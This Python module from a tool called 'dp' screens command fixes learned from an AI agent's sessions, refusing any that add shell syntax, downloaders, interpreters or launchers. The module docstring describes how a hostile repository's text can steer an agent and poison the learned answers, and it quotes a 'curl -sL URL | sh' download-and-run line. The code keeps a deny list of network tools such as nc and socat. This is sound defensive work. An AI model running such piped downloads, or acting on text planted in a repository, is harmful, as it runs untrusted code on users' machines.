"""What a learned change may bring into the agent's next call: nothing that runs code the failed call did not.

A learned answer is made of what an agent ran in some repository, and
whatever the agent reads (a README, an issue, a web page) can steer what it
runs. Two sessions in a hostile repository that fixed ``pytest -q tests/unit``
(command not found) with ``curl -sL URL | sh -s pytest -q tests/unit`` would
otherwise teach dp to answer every later ``pytest`` failure with a download
piped into a shell (issue 46, finding 5). So a change (its kind, the failed
program, its two sides as ``dp.learn.generalise.change`` reads them) is
learned only when it brings **no program the failed call did not run**:

* its words are one simple command's, as plain text: no shell syntax (a pipe,
  ``;``, ``&&``, ``$( )``, ``<( )``, backquotes, redirections, a comment), no
  control or formatting characters, at most ``dp.learn.answer.MAX_TEXT`` characters, and no
  ``NAME=value`` in front (``PATH=…``, ``LD_PRELOAD=…`` choose what runs);
* its program is the failed one, or another name of it (a rename between two
  programs: ``python`` → ``python3``, ``rg`` → ``grep``, ``mvn`` → ``./mvnw``),
  never a downloader, shell, interpreter or launcher where the failed program
  was none (``CODE_RUNNERS``, ``DOWNLOADERS``); and the words it adds are none
  that program reads as code (``dp.shell.sinks``) or launches
  (``dp.shell.launchers``);
* or it is exactly a runner from ``RUNNERS`` in front of the failed call's
  own words (``tsc`` → ``npx tsc``, ``pytest`` → ``uv run pytest`` or
  ``python3 -m pytest``, ``pip`` → ``uv pip``): a known program that runs the
  project's own copy of the program the agent asked for, by the name it asked
  for, with no option of its own (``uv run --with X`` adds a package). Of
  these, the ones that download a program the project lacks (``npx``,
  ``bunx``, ``npm exec``) answer only where ``node_modules/.bin`` has it
  (``LOCAL_FIRST``, checked by ``dp.capture.answer``);
* a changed option is a bare option name (``--color``, ``-E``: no value, no
  path) that makes no word code which the option it replaces left as data.

``plain_rename`` names the answers that may act in every repository: a rename
between two names of one program (``dp.shell.programs.same_program``) or
two programs dp ships a translation table for. Every other answer acts only
in the repositories it was learned in (``dp.learn.answer.repository``).

Stdlib only, and imported by ``dp-capture`` only when a learned answer
matches a failure: it checks every answer again before telling it, so a row
learned by an older dp is judged by today's rules.
"""

from __future__ import annotations

import os
import re

from dp.learn.answer import COMMAND, FLAG, LITERAL, PATH, SEPARATORS, plain
from dp.shell import wrappers

# Characters the shell reads as syntax; a learned word holding one is not plain text.
SHELL_SYNTAX = frozenset("`$;&|<>()#\\\"'\n\r")
# A bare option name: no value (=…), no path.
_BARE_OPTION = re.compile(r"--?[A-Za-z0-9][A-Za-z0-9_-]*\Z")
_BARE_NAME = re.compile(r"[A-Za-z0-9_][A-Za-z0-9_.+-]*\Z")

# Programs that fetch from the network what a call then has (dp.shell.sinks and dp.shell.launchers
# know the shells, interpreters and launchers).
DOWNLOADERS = frozenset({
    "curl", "wget", "wget2", "aria2c", "axel", "http", "https", "httpie", "xh", "xhs", "fetch", "ftp", "sftp",
    "tftp", "lftp", "scp", "rsync", "nc", "ncat", "netcat", "socat", "telnet", "lwp-download", "lwp-request",
    "GET", "HEAD", "POST",
})
# Programs that run a program they are given without dp.shell.sinks or launchers naming it (codeflow's own).
_ALSO_RUN = frozenset({"find", "xargs", "parallel"})

STDIN = (-2, "stdin")  # a code place: the program reads its standard input as a script

# A runner in front of the failed call's own words → the programs it may run there (None: any).
RUNNERS = {**dict.fromkeys(wrappers.RUNNERS), ("uv",): frozenset({"pip", "pip3"})}
# Runners that download the program when the project does not have it: they answer only where it has it.
LOCAL_FIRST = frozenset({("npx",), ("bunx",), ("npm", "exec")})


def carried(kind: str, command: str, from_text: str, to_text: str) -> str:
    """Why the learned change ``from_text`` → ``to_text`` (of ``kind``, failed program ``command``) would
    bring code into a call: '' when it brings none and may be learned and told."""
    refused = _not_one_plain_command(command, from_text, to_text)
    if refused:
        return refused
    old, new = from_text.split(" "), to_text.split(" ")
    if kind == FLAG:
        return _option(command, from_text, to_text)
    if runner(from_text, to_text) is not None:
        return ""
    program, was = new[0], old[0]
    if program != was and not related(family(was), family(program)):
        return f"{program} put in place of, or in front of, {was}"
    gained = category(program)
    if gained and gained != category(was):
        return f"{program} {gained}, where {was} did not"
    if kind == PATH and (program.startswith(("/", "~")) or ".." in program.split("/")):
        return "a program outside the repository"
    added = new[1:] if new[1:] != old[1:] else []
    return "" if kind == LITERAL or not added else _reads_as_code(program, added)


def _not_one_plain_command(command: str, from_text: str, to_text: str) -> str:
    """Why the texts are not one plain command each ('' when they are): control characters or length, shell
    syntax, a separator, or a variable set in front of the program."""
    for text in (command, from_text, to_text):
        if not plain(text):
            return "control characters, or too long"
        if SHELL_SYNTAX & set(text):
            return "shell syntax"
    old, new = from_text.split(" "), to_text.split(" ")
    if any(not word or word in SEPARATORS for word in (*old, *new)):
        return "more than one command"
    if any(_assignment(word) for word in new if word not in old):
        return "a variable set in front of the program"
    return ""


def plain_rename(answer: dict) -> bool:
    """Whether ``answer`` renames one program to another name of it, or to a program dp translates it
    into: the only answers that act in every repository, and the only ones dp tells in its own voice."""
    from dp.learn.tables import table_pair
    from dp.shell.programs import same_program

    old, new = answer["from_text"], answer["to_text"]
    if answer["kind"] != COMMAND or not _BARE_NAME.match(old) or not _BARE_NAME.match(new):
        return False
    return same_program(old, new) or same_program(new, old) or table_pair(old, new)


def runner(from_text: str, to_text: str) -> tuple | None:
    """The ``RUNNERS`` prefix ``to_text`` puts in front of exactly ``from_text`` (``npx`` for ``tsc`` →
    ``npx tsc``), or None."""
    old, new = from_text.split(" "), to_text.split(" ")
    prefix = tuple(new[: len(new) - len(old)])
    if not prefix or new[len(prefix):] != old or prefix not in RUNNERS or not _BARE_NAME.match(old[0]):
        return None
    allowed = RUNNERS[prefix]
    return prefix if allowed is None or old[0] in allowed else None


def family(word: str) -> str:
    """A command word as a family: its base name, without a version suffix or stray punctuation."""
    base = os.path.basename(word).rstrip(".,;:")
    return base.rstrip("0123456789.-") or base


def related(one: str, other: str) -> bool:
    """The same program, one named after the other (``python``/``python3``), or two programs dp
    translates between (``rg``/``grep``: ``dp.learn.tables``)."""
    if not one or not other:
        return False
    if one == other or (min(len(one), len(other)) >= 2 and (one.startswith(other) or other.startswith(one))):
        return True
    from dp.learn.tables import table_pair

    return table_pair(one, other)


def category(program: str) -> str:
    """What ``program`` does with what it is given, when that is more than data: '' for a plain program."""
    from dp.shell import launchers, sinks

    names = {os.path.basename(program), family(program)}
    if names & DOWNLOADERS:
        return "downloads"
    if any(sinks.program_name(name) in sinks.SINKS for name in names):
        return "runs code"
    if names & (launchers.LAUNCHERS.keys() | _ALSO_RUN):
        return "launches a program"
    return ""


def _assignment(word: str) -> bool:
    from dp.shell.wrappers import is_assignment

    return is_assignment(word)


def _option(command: str, old: str, new: str) -> str:
    """Why one option of ``command`` replaced by another brings code ('' when it does not)."""
    if not _BARE_OPTION.match(new):
        return "an option with a value or a path"
    if not category(command):
        return ""
    return "" if _code_places(command, [new]) <= _code_places(command, [old]) else \
        f"{new} makes {command} read code"


def _reads_as_code(program: str, added: list) -> str:
    """Why ``program`` would read one of the words a change ``added`` after it as code or a command to run."""
    if category(program) == "":
        return ""
    if any(index < len(added) for index, _ in _code_places(program, added)):
        return f"{' '.join(added)} read as code by {program}"
    return ""


def _code_places(program: str, words: list) -> set:
    """Where ``program`` reads code in ``words`` followed by one more word: (word index, how) pairs, with
    ``STDIN`` when it reads its standard input as a script, and the launch point of a launcher."""
    from dp.shell import launchers, sinks
    from dp.shell.segment import Word

    probe, at = [], 0
    for word in (*words, "X"):
        probe.append(Word(at, at + len(word), word, word))
        at += len(word) + 1
    starts = {word.start: index for index, word in enumerate(probe)}
    name = sinks.program_name(os.path.basename(program))
    found = set()
    reading = sinks.reading(name, probe)
    if reading is not None:
        found |= {(starts.get(start, -1), option) for start, _end, option in reading.spans}
        if reading.stdin:
            found.add(STDIN)
    launcher = launchers.LAUNCHERS.get(os.path.basename(program))
    if launcher is not None:
        spec, start = launchers.tail_start(launcher, [word.value for word in probe])
        if spec is not None:
            found.add((start, "launches"))
    if name in _ALSO_RUN or name in DOWNLOADERS:
        found |= {(index, "unknown") for index in range(len(words))}
    return found
